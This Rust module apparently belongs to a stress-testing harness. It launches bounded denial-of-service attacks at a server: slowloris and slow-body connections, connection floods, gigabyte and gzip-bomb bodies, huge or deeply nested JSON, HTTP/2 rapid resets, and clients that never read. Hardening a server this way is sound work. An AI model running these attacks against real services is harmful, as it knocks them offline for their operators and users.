//! The attacks. Each is bounded in connections and ends by itself.

use std::collections::{BTreeMap, VecDeque};
use std::fmt;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use clap::ValueEnum;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout, timeout_at};

use super::http2;

/// Connections of those who are slow.
const SLOW_CONNECTIONS: usize = 5000;
/// Connections attempted in a flood, and how many of them are held open at most.
const FLOOD_CONNECTIONS: usize = 50_000;
const FLOOD_HELD_MAX: usize = 12_000;
const FLOOD_WORKERS: usize = 200;
/// Connections of those who never read, and what each asks for.
const DEAF_CONNECTIONS: usize = 2000;
const DEAF_REQUESTS: usize = 20;
const GIB: u64 = 1 << 30;
/// How long an attacker waits for an answer.
const PATIENCE: Duration = Duration::from_secs(30);

/// What is done to the server.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Nothing: what the machine itself makes of the figures.
    Peace,
    /// 5000 connections, each with a byte of a request head a second.
    Slowloris,
    /// 5000 connections, each with a byte of a request body a second.
    SlowBody,
    /// 50,000 connections that never say a word, as fast as they can be opened.
    Flood,
    /// Bodies of a gigabyte, announced or in chunks, on 8 connections.
    Gigabyte,
    /// Lists of up to a million elements, on 4 connections.
    Arrays,
    /// Compressed bodies and JSON that is deep, long or all escapes, on 8 connections.
    Bombs,
    /// HTTP/2 requests that are reset as soon as they are sent, on 16 connections.
    Resets,
    /// 2000 connections that ask for a megabyte again and again and never read it.
    Deaf,
}

impl Attack {
    /// All of them.
    pub fn all() -> Vec<Attack> {
        Attack::value_variants().to_vec()
    }

    /// As the command line has it.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Peace => "peace",
            Attack::Slowloris => "slowloris",
            Attack::SlowBody => "slow-body",
            Attack::Flood => "flood",
            Attack::Gigabyte => "gigabyte",
            Attack::Arrays => "arrays",
            Attack::Bombs => "bombs",
            Attack::Resets => "resets",
            Attack::Deaf => "deaf",
        }
    }
}

/// What the attacker achieved.
#[derive(Default)]
pub struct Tally {
    opened: AtomicU64,
    refused: AtomicU64,
    closed: AtomicU64,
    sent_bytes: AtomicU64,
    statuses: Mutex<BTreeMap<String, u64>>,
}

impl Tally {
    fn add(count: &AtomicU64, by: usize) {
        count.fetch_add(by as u64, Ordering::Relaxed);
    }

    fn answered(&self, status: String) {
        let mut statuses = self.statuses.lock().unwrap_or_else(PoisonError::into_inner);
        *statuses.entry(status).or_default() += 1;
    }
}

impl fmt::Display for Tally {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let get = |count: &AtomicU64| count.load(Ordering::Relaxed);
        write!(
            f,
            "{} connections, {} not let in, {} closed by the server, {} MiB sent",
            get(&self.opened),
            get(&self.refused),
            get(&self.closed),
            get(&self.sent_bytes) >> 20
        )?;
        let statuses = self.statuses.lock().unwrap_or_else(PoisonError::into_inner);
        statuses
            .iter()
            .try_for_each(|(status, count)| write!(f, ", {count} × {status}"))
    }
}

/// What all attackers share.
#[derive(Clone)]
struct Scene {
    target: SocketAddr,
    until: Instant,
    tally: Arc<Tally>,
}

/// Attacks `target` for `duration`.
pub async fn run(attack: Attack, target: SocketAddr, duration: Duration) -> Arc<Tally> {
    let scene = Scene {
        target,
        until: Instant::now() + duration,
        tally: Arc::default(),
    };
    let mut attackers = JoinSet::new();
    match attack {
        Attack::Peace => {}
        Attack::Slowloris => slow(&mut attackers, &scene, b"POST / HTTP/1.1\r\nx-slow: "),
        Attack::SlowBody => {
            let head = b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n";
            slow(&mut attackers, &scene, head);
        }
        Attack::Flood => flood(&mut attackers, &scene),
        Attack::Gigabyte => {
            for n in 0..8 {
                attackers.spawn(gigabytes(scene.clone(), n % 2 == 0));
            }
        }
        Attack::Arrays => repeat(&mut attackers, &scene, 4, arrays(), ""),
        Attack::Bombs => {
            repeat(
                &mut attackers,
                &scene,
                4,
                vec![gzip()],
                "content-encoding: gzip\r\n",
            );
            repeat(&mut attackers, &scene, 4, bombs(), "");
        }
        Attack::Resets => {
            for _ in 0..16 {
                attackers.spawn(resets(scene.clone()));
            }
        }
        Attack::Deaf => {
            for n in 0..DEAF_CONNECTIONS {
                attackers.spawn(deaf(scene.clone(), n));
            }
        }
    }
    while attackers.join_next().await.is_some() {}
    tokio::time::sleep_until(scene.until).await;
    scene.tally
}

impl Scene {
    /// Connects from one of several addresses of this machine: one has too few ports.
    async fn connect(&self, n: usize) -> Option<TcpStream> {
        let connect = async {
            let socket = TcpSocket::new_v4()?;
            let host = u8::try_from(2 + n % 8).unwrap_or(2);
            socket.bind((Ipv4Addr::new(127, 0, 0, host), 0).into())?;
            socket.connect(self.target).await
        };
        match timeout_at(self.until, connect).await {
            Ok(Ok(stream)) => {
                Tally::add(&self.tally.opened, 1);
                Some(stream)
            }
            Ok(Err(_)) => {
                Tally::add(&self.tally.refused, 1);
                sleep(Duration::from_millis(100)).await;
                None
            }
            Err(_) => None,
        }
    }

    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    async fn send(&self, stream: &mut TcpStream, bytes: &[u8]) -> bool {
        let sent = timeout_at(self.until, stream.write_all(bytes)).await;
        let is_sent = matches!(sent, Ok(Ok(())));
        if is_sent {
            Tally::add(&self.tally.sent_bytes, bytes.len());
        }
        is_sent
    }

    /// Reads an answer and notes its status.
    async fn receive(&self, stream: &mut TcpStream) {
        let mut bytes = vec![0; 4096];
        let status = match timeout(PATIENCE, stream.read(&mut bytes)).await {
            Ok(Ok(read)) if read > 12 => String::from_utf8_lossy(&bytes[9..12]).into_owned(),
            Ok(_) => "end".to_owned(),
            Err(_) => "silence".to_owned(),
        };
        self.tally.answered(status);
    }
}

/// Connections that say something, and then a byte a second; opened again when closed.
fn slow(attackers: &mut JoinSet<()>, scene: &Scene, head: &'static [u8]) {
    for n in 0..SLOW_CONNECTIONS {
        let scene = scene.clone();
        attackers.spawn(async move {
            while !scene.is_over() {
                let Some(mut stream) = scene.connect(n).await else {
                    continue;
                };
                let mut is_open = scene.send(&mut stream, head).await;
                let mut byte = [0];
                while is_open && !scene.is_over() {
                    match timeout(Duration::from_secs(1), stream.read(&mut byte)).await {
                        Ok(_) => {
                            Tally::add(&scene.tally.closed, 1);
                            is_open = false;
                        }
                        Err(_) => is_open = scene.send(&mut stream, b"x").await,
                    }
                }
            }
        });
    }
}

fn flood(attackers: &mut JoinSet<()>, scene: &Scene) {
    for worker in 0..FLOOD_WORKERS {
        let scene = scene.clone();
        attackers.spawn(async move {
            let mut held = VecDeque::new();
            for n in 0..FLOOD_CONNECTIONS / FLOOD_WORKERS {
                held.extend(scene.connect(worker + n).await);
                if held.len() > FLOOD_HELD_MAX / FLOOD_WORKERS {
                    held.pop_front();
                }
            }
            tokio::time::sleep_until(scene.until).await;
        });
    }
}

async fn gigabytes(scene: Scene, is_announced: bool) {
    let mut piece = b"100000\r\n".to_vec();
    piece.extend(vec![b'x'; 1 << 20]);
    piece.extend(b"\r\n");
    let head = if is_announced {
        format!("POST / HTTP/1.1\r\nhost: x\r\ncontent-length: {GIB}\r\n\r\n")
    } else {
        "POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n".to_owned()
    };
    while !scene.is_over() {
        let Some(mut stream) = scene.connect(0).await else {
            continue;
        };
        let mut is_open = scene.send(&mut stream, head.as_bytes()).await;
        let mut sent = 0;
        while is_open && sent < GIB && !scene.is_over() {
            let answered = timeout(Duration::ZERO, stream.readable()).await.is_ok();
            if answered {
                break;
            }
            is_open = scene.send(&mut stream, &piece).await;
            sent += piece.len() as u64;
        }
        if !scene.is_over() {
            scene.receive(&mut stream).await;
        }
    }
}

/// The same requests again and again, one after the other, on so many connections.
fn repeat(
    attackers: &mut JoinSet<()>,
    scene: &Scene,
    connections: usize,
    bodies: Vec<Vec<u8>>,
    header: &'static str,
) {
    let bodies = Arc::new(bodies);
    for n in 0..connections {
        let (scene, bodies) = (scene.clone(), bodies.clone());
        attackers.spawn(async move {
            for body in bodies.iter().cycle().skip(n) {
                if scene.is_over() {
                    return;
                }
                let Some(mut stream) = scene.connect(n).await else {
                    continue;
                };
                let length = body.len();
                let head = format!(
                    "POST / HTTP/1.1\r\nhost: x\r\n{header}content-length: {length}\r\n\r\n"
                );
                if scene.send(&mut stream, head.as_bytes()).await
                    && scene.send(&mut stream, body).await
                {
                    scene.receive(&mut stream).await;
                }
            }
        });
    }
}

fn request(kind: &str, data: &str) -> Vec<u8> {
    let head = r#"{"corrId":"h","version":"2026-04-01"}"#;
    format!(r#"{{"kind":"{kind}","head":{head},"data":{data}}}"#).into_bytes()
}

fn arrays() -> Vec<Vec<u8>> {
    let list = |element: &str, count: usize| vec![element; count].join(",");
    let actions = list("{}", 1_000_000);
    let beats = list(r#"{"id":"a","version":1}"#, 700_000);
    let awaits: Vec<String> = (0..10_000)
        .map(|n| {
            let data = json!({"awaited": format!("a.{n}"), "awaiter": "a"});
            json!({"kind": "promise.register_callback", "head": {}, "data": data}).to_string()
        })
        .collect();
    let tags: Vec<String> = (0..1_000_000).map(|n| format!(r#""{n:x}":"""#)).collect();
    vec![
        request(
            "task.suspend",
            &format!(r#"{{"id":"a","version":1,"actions":[{actions}]}}"#),
        ),
        request(
            "task.heartbeat",
            &format!(r#"{{"pid":"p","tasks":[{beats}]}}"#),
        ),
        request(
            "task.heartbeat",
            &format!(
                r#"{{"pid":"p","tasks":[{}]}}"#,
                list(r#"{"id":"a","version":1}"#, 100_000)
            ),
        ),
        request(
            "task.suspend",
            &format!(
                r#"{{"id":"a","version":1,"actions":[{}]}}"#,
                awaits.join(",")
            ),
        ),
        request(
            "promise.create",
            &format!(
                r#"{{"id":"a","timeoutAt":1,"tags":{{{}}}}}"#,
                tags.join(",")
            ),
        ),
        request(
            "promise.get",
            &format!(r#"{{"id":"a","unknown":[{}]}}"#, list("[]", 1_000_000)),
        ),
    ]
}

/// What claims to be compressed, and to become a thousand times as large.
fn gzip() -> Vec<u8> {
    let zeros = [0xed, 0xc1, 0x01, 0x0d].repeat(250_000);
    [&[0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3][..], &zeros].concat()
}

fn bombs() -> Vec<Vec<u8>> {
    let create = |value: &str| {
        request(
            "promise.create",
            &format!(r#"{{"id":"b","timeoutAt":1,"param":{value}}}"#),
        )
    };
    vec![
        "[".repeat(10_000_000).into_bytes(),
        r#"{"a":"#.repeat(2_000_000).into_bytes(),
        create(&format!(
            "{}{}",
            "[".repeat(5_000_000),
            "]".repeat(5_000_000)
        )),
        create(&"9".repeat(10_000_000)),
        create(&format!(
            r#"{{"data":"{}"}}"#,
            "\\ud83d\\ude00".repeat(1_000_000)
        )),
        create(&format!(r#"{{"data":"{}"}}"#, "\\ud800".repeat(1_000_000))),
        [&b"\xff"[..]].concat().repeat(10_000_000),
    ]
}

async fn resets(scene: Scene) {
    while !scene.is_over() {
        let Some(mut stream) = scene.connect(0).await else {
            continue;
        };
        let mut is_open = scene.send(&mut stream, &http2::greeting()).await;
        let mut next = 1;
        while is_open && !scene.is_over() {
            let burst: Vec<u8> = (0..100)
                .flat_map(|n| http2::reset_request(next + 2 * n))
                .collect();
            next += 200;
            is_open = scene.send(&mut stream, &burst).await;
            // What it says is read, lest it be closed for not being read.
            let mut said = [0; 65_536];
            while let Ok(read) = stream.try_read(&mut said) {
                if read == 0 {
                    is_open = false;
                    Tally::add(&scene.tally.closed, 1);
                    break;
                }
            }
        }
    }
}

async fn deaf(scene: Scene, n: usize) {
    let body = request("promise.get", r#"{"id":"large"}"#);
    let length = body.len();
    let head = format!("POST / HTTP/1.1\r\nhost: x\r\ncontent-length: {length}\r\n\r\n");
    let request = [head.as_bytes(), &body].concat().repeat(DEAF_REQUESTS);
    while !scene.is_over() {
        let Some(mut stream) = scene.connect(n).await else {
            continue;
        };
        if scene.send(&mut stream, &request).await {
            // Until the server has had enough of it.
            let mut one = [0];
            while !scene.is_over() && stream.peek(&mut one).await.is_ok() {
                sleep(Duration::from_secs(1)).await;
                if stream.try_write(b"x").is_err() {
                    Tally::add(&scene.tally.closed, 1);
                    break;
                }
            }
        }
    }
}
